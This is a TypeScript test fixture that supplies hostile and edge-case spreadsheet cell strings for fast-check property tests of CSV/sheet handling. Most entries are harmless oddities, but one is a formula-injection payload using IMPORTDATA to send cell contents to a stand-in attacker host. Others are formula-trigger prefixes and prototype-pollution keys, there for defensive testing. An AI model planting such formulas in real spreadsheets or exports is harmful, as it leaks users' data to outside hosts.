// What turns up in real sheets and must neither crash anything nor become a formula.
import fc from 'fast-check';

export const LONG_TEXT = 'ü'.repeat(50_000);

export const HOSTILE_TEXTS: readonly string[] = [
  '=IMPORTDATA("https://evil.example/?"&A1)',
  '+1+1',
  '-1',
  '@SUM(A1)',
  "'=1",
  '#REF!',
  '#N/A',
  '😀👩‍👩‍👧',
  '2026-01-31',
  '31.01.2026',
  '1.200,50',
  '-5',
  '(5)',
  'TRUE',
  '  padded  ',
  'line\nbreak',
  'tab\there',
  '"quoted"',
  'back\\slash',
  '\u0001\u001f',
  '\u2028',
  '<b>x</b>',
  '__proto__',
  'constructor',
  '0x10',
  '1e999',
];

export const hostileCell: fc.Arbitrary<string> = fc.constantFrom(...HOSTILE_TEXTS);
